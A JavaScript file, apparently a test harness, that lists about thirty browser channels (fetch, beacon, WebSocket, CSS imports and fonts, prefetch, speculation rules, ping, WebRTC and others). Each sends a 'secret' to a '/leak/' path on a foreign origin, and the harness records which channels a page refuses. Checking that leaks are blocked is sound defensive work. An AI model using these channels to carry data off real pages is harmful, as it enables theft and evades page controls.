// Every way to reach a foreign server that a page has, each to an address of its own. On an ordinary page each of them gets there.
const ways = (origin, udp) => {
  const at = (name) => `${origin}/leak/${name}?secret=42`;
  const add = (tag, members, to = document.body) => {
    const element = Object.assign(document.createElement(tag), members);
    to.append(element);
    return element;
  };
  const style = (css) => add('style', { textContent: css });
  const link = (rel, name, more = {}) => add('link', { rel, href: at(name), ...more }, document.head);
  return {
    fetch: () => fetch(at('fetch')),
    'fetch-no-cors': () => fetch(at('fetch-no-cors'), { mode: 'no-cors', credentials: 'include' }),
    'fetch-keepalive': () => fetch(at('fetch-keepalive'), { keepalive: true, method: 'POST', body: 'secret' }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('GET', at('xhr'));
      request.send();
    },
    beacon: () => void navigator.sendBeacon(at('beacon'), 'secret'),
    websocket: () => void new WebSocket(at('websocket').replace('http', 'ws')),
    eventsource: () => void new EventSource(at('eventsource')),
    image: () => void (new Image().src = at('image')),
    srcset: () => void add('img', { srcset: `${at('srcset')} 1x` }),
    'input-image': () => void add('input', { type: 'image', src: at('input-image') }),
    'svg-image': () => {
      document.body.insertAdjacentHTML('beforeend', `<svg width="9" height="9"><image href="${at('svg-image')}"/></svg>`);
    },
    'css-background': () => {
      style(`#background { width: 9px; height: 9px; background: url(${at('css-background')}) }`);
      add('div', { id: 'background' });
    },
    'css-import': () => style(`@import url(${at('css-import')});`),
    'css-font': () => {
      style(`@font-face { font-family: leak; src: url(${at('css-font')}) } #font { font-family: leak }`);
      add('p', { id: 'font', textContent: 'x' });
    },
    'font-face': () => new FontFace('leak2', `url(${at('font-face')})`).load(),
    stylesheet: () => link('stylesheet', 'stylesheet'),
    prefetch: () => link('prefetch', 'prefetch'),
    preload: () => link('preload', 'preload', { as: 'image' }),
    modulepreload: () => link('modulepreload', 'modulepreload'),
    icon: () => link('icon', 'icon'),
    preconnect: () => link('preconnect', 'preconnect'),
    'speculation-rules': () =>
      add('script', {
        type: 'speculationrules',
        textContent: JSON.stringify({ prefetch: [{ urls: [at('speculation-rules')], eagerness: 'immediate' }] }),
      }),
    script: () => void add('script', { src: at('script') }),
    module: () => import(at('module')),
    iframe: () => void add('iframe', { src: at('iframe') }),
    object: () => void add('object', { data: at('object') }),
    embed: () => void add('embed', { src: at('embed') }),
    video: () => void add('video', { src: at('video'), poster: at('poster'), preload: 'auto' }),
    audio: () => void add('audio', { src: at('audio'), preload: 'auto' }),
    track: () => {
      const video = add('video', {});
      add('track', { src: at('track'), default: true, kind: 'subtitles' }, video).track.mode = 'showing';
    },
    ping: () => add('a', { href: '#here', ping: at('ping') }).click(),
    webrtc: async () => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
      connection.createDataChannel('leak');
      await connection.setLocalDescription(await connection.createOffer());
    },
  };
};

/** Tries all of them, and says what the page itself noticed of it. */
const tryAll = async (origin, udp) => {
  const noticed = {};
  for (const [name, act] of Object.entries(ways(origin, udp))) {
    try {
      await Promise.race([act(), new Promise((resolve) => setTimeout(resolve, 300))]);
      noticed[name] = 'tried';
    } catch (refused) {
      noticed[name] = `refused: ${refused.name}`;
    }
  }
  return noticed;
};
